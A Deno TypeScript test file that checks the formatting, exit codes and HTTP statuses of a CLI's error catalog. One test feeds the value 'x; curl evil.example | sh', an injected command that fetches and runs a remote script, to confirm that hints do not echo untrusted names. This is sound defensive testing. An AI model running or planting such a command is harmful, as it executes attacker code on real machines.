/** Every row of the catalog keeps the rules at its head, and stands for a failure that the program has. */
import assert from "node:assert/strict";
import { AppError } from "../../../src/kernel/error.ts";
import { CATALOG } from "../../../src/kernel/error_catalog.ts";
import { root, sources } from "../../architecture/sources.ts";

interface Row {
  readonly exit: number;
  readonly status: number;
  readonly message: (fields: unknown) => string;
  readonly hint?: (fields: unknown) => string;
}

const ROWS = Object.entries(CATALOG as unknown as Readonly<Record<string, Row>>);

/** Any field, as its own name. */
const FIELDS: unknown = new Proxy({}, { get: (_, name) => `‹${String(name)}›` });

Deno.test("every code of the catalog is one that the program throws or answers with", async () => {
  const named = new Set<string>();
  for await (const path of sources("src")) {
    if (path === "src/kernel/error_catalog.ts") continue;
    for (const [, word] of (await Deno.readTextFile(new URL(path, root))).matchAll(/"([a-z_]+)"/g)) named.add(word!);
  }
  assert.ok(ROWS.length > 0);
  assert.deepEqual(ROWS.map(([code]) => code).filter((code) => !named.has(code)), []);
});

Deno.test("messages begin with a capital or a field and end without a period, and exits and statuses are in range", () => {
  for (const [code, { exit, status, message, hint }] of ROWS) {
    assert.match(code, /^[a-z]+(_[a-z0-9]+)*$/);
    assert.match(message(FIELDS), /^[A-Z‹][^]*[^.\s]$/, code);
    assert.doesNotMatch(hint?.(FIELDS) ?? "", /\.$/, code);
    assert.ok(Number.isInteger(exit) && exit >= 1 && exit <= 9, code);
    assert.ok(Number.isInteger(status) && status >= 400 && status <= 599, code);
  }
});

Deno.test("a hint for a name that is taken repeats no name: a server may have made it up", () => {
  for (const kind of ["project", "account", "environment", "workspace"]) {
    const { message, hint } = new AppError("name_taken", { kind, name: "x; curl evil.example | sh" });
    assert.match(message, /^Cannot use the name/);
    assert.match(hint ?? "", /^Choose another name(, or work in that project: agentsecrets project use NAME)?$/, kind);
  }
});

Deno.test("a missing answer reads as a sentence, be it a thing or a yes", () => {
  const answer = (what: string): string => new AppError("missing_answer", { what, flag: "--yes" }).message;
  assert.equal(answer("the e-mail"), "Cannot ask for the e-mail: there is no terminal");
  assert.equal(answer("whether to delete it"), "Cannot ask whether to delete it: there is no terminal");
});
